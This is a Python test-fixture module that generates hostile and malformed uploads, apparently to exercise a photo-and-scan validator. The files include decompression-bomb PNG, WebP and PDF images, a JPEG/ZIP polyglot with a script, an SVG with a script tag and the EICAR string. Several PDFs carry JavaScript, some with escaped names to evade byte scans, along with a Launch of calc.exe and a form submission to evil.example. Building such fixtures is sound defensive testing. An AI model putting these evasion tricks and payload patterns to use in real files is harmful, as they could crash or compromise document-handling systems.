"""Papers as people send them and as attackers would: every file is made here, none is kept in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image, ImageCms, ImageDraw, ImageFilter, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

#: Stands in the metadata of hostile files and must stand in nothing that is kept.
CANARY = "CANARY7391"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
Trouble = Callable[[PdfWriter], object]
_GPS, _ORIENTATION, _MAKER = 0x8825, 0x0112, 0x010F


def face(width: int = 600, height: int = 800, *, shift: int = 0) -> Image.Image:
    """A drawn head and shoulders before a light wall; `shift` makes another person of it."""
    picture = Image.new("RGB", (width, height), (225, 228, 232))
    draw = ImageDraw.Draw(picture)
    wide, high, move = width / 100, height / 100, shift * width / 100
    draw.ellipse((10 * wide, 72 * high, 90 * wide, 140 * high), fill=(40, 60 + shift, 90))
    draw.ellipse((27 * wide + move, 15 * high, 73 * wide + move, 75 * high), fill=(224, 180, 150))
    draw.pieslice((25 * wide + move, 8 * high, 75 * wide + move, 62 * high), 180, 360, fill=(60 + shift, 40, 30))
    for x in (38, 56):
        draw.ellipse((x * wide + move, 40 * high, (x + 6) * wide + move, 44 * high), fill=(20, 20, 20))
    draw.line((42 * wide + move, 62 * high, 58 * wide + move, 62 * high), fill=(150, 60, 60), width=max(2, width // 80))
    return picture


def encoded(picture: Image.Image, kind: str = "JPEG", **options: Any) -> bytes:
    """The picture as a file."""
    file = io.BytesIO()
    picture.save(file, kind, **options)
    return file.getvalue()


def photo(kind: str = "JPEG", **options: Any) -> bytes:
    """A sound photo."""
    return encoded(face(), kind, **options)


def plain(size: tuple[int, int], colour: tuple[int, int, int] = (0, 0, 0)) -> bytes:
    """A picture of one colour."""
    return encoded(Image.new("RGB", size, colour), "PNG")


def dim(low: int, high: int) -> bytes:
    """The face, its light squeezed between two values."""
    return encoded(face().point(lambda value: low + value * (high - low) // 255), "PNG")


def blurred() -> bytes:
    """The face far out of focus."""
    return encoded(face().filter(ImageFilter.GaussianBlur(25)))


def huge_png(side: int = 13_000) -> bytes:
    """A PNG of one bit a pixel whose 21 MB of lines pack into some 20 kB."""
    line = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def largest_png(mode: str) -> bytes:
    """As many pixels as are taken, in few bytes: lines of the bytes that a mode needs, made without an image."""
    width = height = 5000
    depth, colour, size = {"RGBA": (8, 6, 4), "I;16": (16, 0, 2), "P": (8, 3, 1)}[mode]
    palette = _chunk(b"PLTE", bytes(range(256)) * 3) if mode == "P" else b""
    line = b"\x00" + bytes(range(250)) * (width * size // 250)
    packer = zlib.compressobj(1)
    body = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = (_chunk(b"IHDR", header), palette, _chunk(b"IDAT", body), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def huge_webp(side: int = 16_383) -> bytes:
    """A WebP that only announces so many pixels."""
    canvas = (side - 1).to_bytes(3, "little")
    extended = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4 + canvas * 2
    real = photo("WEBP")[12:]
    body = b"WEBP" + extended + real
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def polyglot() -> bytes:
    """A JPEG that is also a ZIP with a script."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("run.js", f"<script>{CANARY}</script>" * 50)
    return photo() + archive.getvalue()


def with_exif(*, orientation: int = 1, padding: int = 0) -> bytes:
    """A JPEG that says where it was taken and by what, lying as told."""
    exif = Image.Exif()
    exif[_ORIENTATION] = orientation
    exif[_MAKER] = CANARY + "x" * padding
    exif[_GPS] = {1: "N", 2: (40.0, 24.0, 33.0), 3: "E", 4: (49.0, 52.0, 1.0)}
    lying = face().transpose(Image.Transpose.ROTATE_90) if orientation == 6 else face()
    return encoded(lying, exif=exif, comment=CANARY.encode())


def with_profile(size: int) -> bytes:
    """A JPEG with a colour profile of about that many bytes."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encoded(face(), icc_profile=profile + CANARY.encode() + b"\x00" * (size - len(profile)))


def in_mode(mode: str) -> bytes:
    """The face in one of the ways that a file may hold colours."""
    match mode:
        case "CMYK":
            return encoded(face().convert("CMYK"))
        case "I;16":
            grey = face().convert("L")
            wide = b"".join(struct.pack("<H", value * 257) for value in grey.tobytes())
            return encoded(Image.frombytes("I;16", grey.size, wide), "PNG")
        case "P+alpha":
            return encoded(face().quantize(64), "PNG", transparency=0)
        case "RGBA":
            clear = face().convert("RGBA")
            clear.putalpha(Image.linear_gradient("L").resize(clear.size))
            return encoded(clear, "PNG")
        case _:
            return encoded(face().convert(mode), "PNG")


def animated(kind: str, frames: int = 3) -> bytes:
    """A moving picture."""
    faces = [face(120, 160, shift=number % 20) for number in range(frames)]
    return encoded(faces[0], kind, save_all=True, append_images=faces[1:], duration=100)


def apng_of(frames: int) -> bytes:
    """A PNG that announces so many frames and has one picture."""
    info = PngImagePlugin.PngInfo()
    still = encoded(face(), "PNG", pnginfo=info)
    control = _chunk(b"acTL", struct.pack(">II", frames, 0))
    first = _chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 600, 800, 0, 0, 1, 10, 0, 0))
    return still[:33] + control + first + still[33:]


def two_in_one_jpeg() -> bytes:
    """What telephones write: a photo and a second picture behind it."""
    return encoded(face(), "MPO", save_all=True, append_images=[face(60, 80)])


SVG = f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>{CANARY}</script></svg>'.encode()
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200


def pdf(pages: int = 1) -> bytes:
    """A sound scan."""
    return _written(_writer(pages))


def pdf_with(trouble: str) -> bytes:
    """A PDF of one page with one kind of trouble."""
    writer = _writer(1)
    _TROUBLES[trouble](writer)
    return _written(writer)


def pdf_with_hidden_name() -> bytes:
    """A script whose key is written with an escape, so that a search of the bytes alone finds nothing."""
    return pdf_with("script").replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4aS")


def pdf_with_lost_script() -> bytes:
    """A script that no cross-reference lists: this parser will not see it, another may."""
    return pdf() + b"99 0 obj << /S /JavaScript >> endobj\n"


def pdf_with_endless_pages() -> bytes:
    """A tree of pages that has itself as a branch."""
    parts = [
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n",
        b"2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >> endobj\n",
    ]
    body = b"".join(parts)
    offsets = (len(b"%PDF-1.4\n"), len(parts[0]))
    table = b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + table + b"trailer << /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _writer(pages: int) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def _written(writer: PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def _action(kind: str, **more: str) -> DictionaryObject:
    entries = {"/S": NameObject(kind), **{f"/{key}": TextStringObject(value) for key, value in more.items()}}
    return DictionaryObject({NameObject(key): value for key, value in entries.items()})


def _on_opening(kind: str, **more: str) -> Trouble:
    def add(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _action(kind, **more)

    return add


def _catalog(key: str, value: Any) -> Trouble:
    def add(writer: PdfWriter) -> None:
        writer.root_object[NameObject(key)] = value

    return add


def _annotation(subtype: str, **entries: Any) -> Trouble:
    def add(writer: PdfWriter) -> None:
        box = ArrayObject([FloatObject(side) for side in (0, 0, 10, 10)])
        note: dict[str, Any] = {"/Type": NameObject("/Annot"), "/Subtype": NameObject(subtype), "/Rect": box}
        note |= {f"/{key}": value for key, value in entries.items()}
        annotation = DictionaryObject({NameObject(key): value for key, value in note.items()})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return add


def _script(writer: PdfWriter) -> None:
    names = ArrayObject([TextStringObject("x"), writer._add_object(_action("/JavaScript", JS="app.alert('x')"))])
    tree = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})})
    writer.root_object[NameObject("/Names")] = tree


def _destination(writer: PdfWriter) -> None:
    page = writer.pages[0].indirect_reference
    assert page is not None
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])


def _bomb(writer: PdfWriter) -> None:
    picture = DictionaryObject(
        {
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(60_000),
            NameObject("/Height"): NumberObject(60_000),
        }
    )
    writer._add_object(picture)


_TROUBLES: dict[str, Trouble] = {
    "script": _script,
    "script on opening": _on_opening("/JavaScript", JS="app.alert('x')"),
    "print on opening": _on_opening("/Named", N="/Print"),
    "program": _on_opening("/Launch", F="calc.exe"),
    "form sent away": _annotation("/Link", A=_action("/SubmitForm", F="https://evil.example/")),
    "acts on pages": _catalog("/AA", DictionaryObject()),
    "attachment": lambda writer: writer.add_attachment("run.exe", b"MZ"),
    "attached note": _annotation("/FileAttachment"),
    "film": _annotation("/RichMedia"),
    "xfa": _catalog("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject()})),
    "password": lambda writer: writer.encrypt("secret"),
    "no password to open": lambda writer: writer.encrypt("", "owner"),
    "endless picture": _bomb,
    "first page shown": _destination,
    "web link": _annotation("/Link", A=_action("/URI", URI="https://www.example.org/")),
}
